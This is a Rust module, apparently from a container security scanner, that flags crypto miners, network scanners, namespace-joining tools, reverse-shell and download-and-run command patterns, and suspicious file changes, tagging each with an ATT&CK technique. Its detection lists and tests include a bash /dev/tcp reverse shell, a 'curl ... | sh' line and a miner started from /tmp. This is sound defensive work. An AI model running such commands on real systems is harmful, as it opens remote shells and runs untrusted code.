//! What is unusual in a container: processes that miners, intruders and their tools are known by, and changed files that tell.

use crate::catalogue::investigate::attack::{self, Technique};

/// Programs by their name.
const PROGRAMS: &[(&[&str], &str, Technique)] = &[
    (
        &[
            "xmrig",
            "xmr-stak",
            "minerd",
            "cpuminer",
            "ccminer",
            "cgminer",
            "bfgminer",
            "ethminer",
            "nbminer",
            "t-rex",
            "lolminer",
            "phoenixminer",
            "nanominer",
            "srbminer-multi",
            "minergate",
            "kdevtmpfsi",
            "kinsing",
            "cryptonight",
        ],
        "is known as a crypto miner",
        attack::RESOURCE_HIJACKING,
    ),
    (
        &["nmap", "masscan", "zmap", "zgrab", "zgrab2", "rustscan"],
        "scans networks",
        attack::NETWORK_SERVICE_DISCOVERY,
    ),
    (
        &["nsenter", "docker", "kubectl", "crictl", "ctr", "runc", "podman"],
        "controls containers or joins their namespaces",
        attack::CONTAINER_ADMINISTRATION_COMMAND,
    ),
    (&["sshd", "dropbear"], "lets people sign in over SSH", attack::SSH),
    (&["tcpdump", "tshark", "ettercap"], "listens to network traffic", attack::NETWORK_SNIFFING),
];

/// What a command line holds, all of it, in lower case.
const COMMANDS: &[(&[&str], &str, Technique)] = &[
    (&["stratum+"], "speaks the protocol of a mining pool", attack::RESOURCE_HIJACKING),
    (&["--donate-level"], "has an option of a crypto miner", attack::RESOURCE_HIJACKING),
    (&["randomx"], "has an option of a crypto miner", attack::RESOURCE_HIJACKING),
    (&["/dev/tcp/"], "opens a connection from a shell, as reverse shells do", attack::UNIX_SHELL),
    (&["socat", "exec:"], "gives a shell to a connection", attack::UNIX_SHELL),
    (&["nc ", " -e "], "gives a shell to a connection", attack::UNIX_SHELL),
    (&["ncat ", " -e "], "gives a shell to a connection", attack::UNIX_SHELL),
    (&["socket", "pty.spawn"], "gives a shell to a connection", attack::UNIX_SHELL),
    (&["curl ", "| sh"], "runs what it downloads", attack::INGRESS_TOOL_TRANSFER),
    (&["curl ", "|sh"], "runs what it downloads", attack::INGRESS_TOOL_TRANSFER),
    (&["curl ", "| bash"], "runs what it downloads", attack::INGRESS_TOOL_TRANSFER),
    (&["curl ", "|bash"], "runs what it downloads", attack::INGRESS_TOOL_TRANSFER),
    (&["wget ", "| sh"], "runs what it downloads", attack::INGRESS_TOOL_TRANSFER),
    (&["wget ", "|sh"], "runs what it downloads", attack::INGRESS_TOOL_TRANSFER),
];

/// Folders that no image keeps its programs in.
const TEMPORARY: &[&str] = &["/tmp/", "/var/tmp/", "/dev/shm/", "/run/", "/var/run/"];

/// Folders of programs.
const OF_PROGRAMS: &[&str] =
    &["/bin/", "/sbin/", "/usr/bin/", "/usr/sbin/", "/usr/local/bin/", "/usr/local/sbin/"];

/// Why a process is unusual, by its command line as ps shows it.
pub(crate) fn process(command: &str) -> Option<(&'static str, Technique)> {
    let command = command.trim();
    // Kernel threads have brackets in ps. A process that has ended and waits for its parent has them, too.
    if command.starts_with('[') && command.ends_with(']') {
        return Some((
            "looks like a thread of the kernel, of which a container has none",
            attack::MASQUERADING,
        ));
    }
    let program = program(command);
    let name = name(program);
    let miners = PROGRAMS.first().filter(|(names, ..)| {
        // A shell's script has the program among its words.
        let mut words =
            command.split(|c: char| c.is_whitespace() || matches!(c, ';' | '|' | '&' | '"' | '\''));
        words.any(|word| names.contains(&self::name(word).as_str()))
    });
    let lower = command.to_ascii_lowercase();
    let by_name = PROGRAMS.iter().find(|(names, ..)| names.contains(&name.as_str()));
    let by_words = || COMMANDS.iter().find(|(words, ..)| words.iter().all(|word| lower.contains(word)));
    if let Some((_, why, technique)) = miners.or(by_name).or_else(by_words) {
        return Some((why, *technique));
    }
    TEMPORARY
        .iter()
        .any(|folder| program.starts_with(folder))
        .then_some(("runs from a folder for temporary files", attack::INGRESS_TOOL_TRANSFER))
}

/// The program of a command line: where a shell or the like runs a script, that.
fn program(command: &str) -> &str {
    let mut words = command.split_whitespace().map(|word| word.trim_end_matches(':'));
    let first = words.next().unwrap_or_default();
    let interprets =
        ["sh", "ash", "dash", "bash", "busybox", "perl", "python", "python3", "node", "php", "ruby"];
    match words.next() {
        Some(script) if interprets.contains(&name(first).as_str()) && script.contains('/') => script,
        _ => first,
    }
}

fn name(program: &str) -> String {
    program.rsplit('/').next().unwrap_or_default().to_ascii_lowercase()
}

/// A changed file that tells something: what, how much, and the technique.
pub(crate) struct Telling {
    pub(crate) what: &'static str,
    pub(crate) technique: Option<Technique>,
    /// The most telling come first.
    pub(crate) rank: u8,
}

/// What a change tells: 0 is changed, 1 added, 2 deleted.
pub(crate) fn change(path: &str, kind: i64) -> Option<Telling> {
    let telling = |what, technique, rank| Some(Telling { what, technique, rank });
    let is_in = |folders: &[&str]| folders.iter().any(|folder| path.starts_with(folder));
    let is_deleted = kind == 2;
    match path {
        "/etc/ld.so.preload" => {
            return telling("loads code into every program", Some(attack::HIDE_ARTIFACTS), 0);
        }
        "/etc/passwd" | "/etc/shadow" | "/etc/sudoers" | "/etc/group" => {
            return telling("says who may sign in", Some(attack::VALID_ACCOUNTS), 0);
        }
        // The engine writes these itself.
        "/etc/hosts" | "/etc/hostname" | "/etc/resolv.conf" | "/etc/mtab" => return None,
        _ => {}
    }
    if path.contains("/.ssh/") {
        return telling("belongs to SSH", Some(attack::SSH), 0);
    }
    if is_in(&["/etc/cron", "/var/spool/cron", "/etc/init.d/", "/etc/systemd/"]) {
        return telling("starts programs by itself", Some(attack::CRON), 0);
    }
    if is_deleted && (path.starts_with("/var/log/") || path.ends_with("_history")) {
        return telling("was a record, and was deleted", Some(attack::FILE_DELETION), 1);
    }
    if is_in(OF_PROGRAMS) {
        let technique =
            if kind == 0 { attack::COMPROMISE_HOST_SOFTWARE_BINARY } else { attack::INGRESS_TOOL_TRANSFER };
        return telling("is in a folder of programs", (!is_deleted).then_some(technique), 1);
    }
    let is_of_a_service =
        path.rsplit_once('.').is_some_and(|(_, end)| matches!(end, "pid" | "sock" | "lock"));
    if is_in(TEMPORARY) && !is_of_a_service {
        let technique = (kind == 1).then_some(attack::INGRESS_TOOL_TRANSFER);
        return telling("is in a folder for temporary files", technique, 2);
    }
    if path.starts_with("/etc/") {
        return telling("is a setting", None, 3);
    }
    if path.starts_with("/root/") || path.starts_with("/home/") {
        return telling("is in a user's own folder", None, 3);
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn miners_shells_and_tools_are_known_by_their_commands() {
        for (command, technique) in [
            ("/usr/bin/xmrig -o pool:3333", "T1496"),
            ("./kdevtmpfsi", "T1496"),
            ("java -x --donate-level 1", "T1496"),
            ("sh -c exec worker -o stratum+tcp://pool:3333", "T1496"),
            ("bash -c bash -i >& /dev/tcp/1.2.3.4/5 0>&1", "T1059.004"),
            ("/tmp/.x/a", "T1105"),
            ("/bin/sh /tmp/a", "T1105"),
            ("sh -c cp a /tmp/xmrig; exec /tmp/xmrig 6", "T1496"),
            ("sh -c curl http://x/y | sh", "T1105"),
            ("[kworker/0:1]", "T1036.005"),
            ("nsenter -t 1 -m", "T1609"),
        ] {
            assert_eq!(process(command).map(|(_, technique)| technique.id), Some(technique), "{command}");
        }
        for usual in [
            "nginx: master process nginx",
            "sleep 600",
            "[sh] <defunct>",
            "redis-server *:6379",
            "",
            "python app.py",
            "sh -c nc -z db 5432",
        ] {
            assert!(process(usual).is_none(), "{usual}");
        }
    }

    #[test]
    fn what_the_engine_writes_tells_nothing() {
        for path in ["/etc/hosts", "/etc/resolv.conf", "/var/cache/x", "/run/nginx.pid", "/data"] {
            assert!(change(path, 1).is_none(), "{path}");
        }
        assert_eq!(change("/etc/passwd", 0).unwrap().rank, 0);
        assert_eq!(change("/root/.bash_history", 2).unwrap().technique.unwrap().id, "T1070.004");
        assert_eq!(change("/tmp/x", 1).unwrap().technique.unwrap().id, "T1105");
    }
}
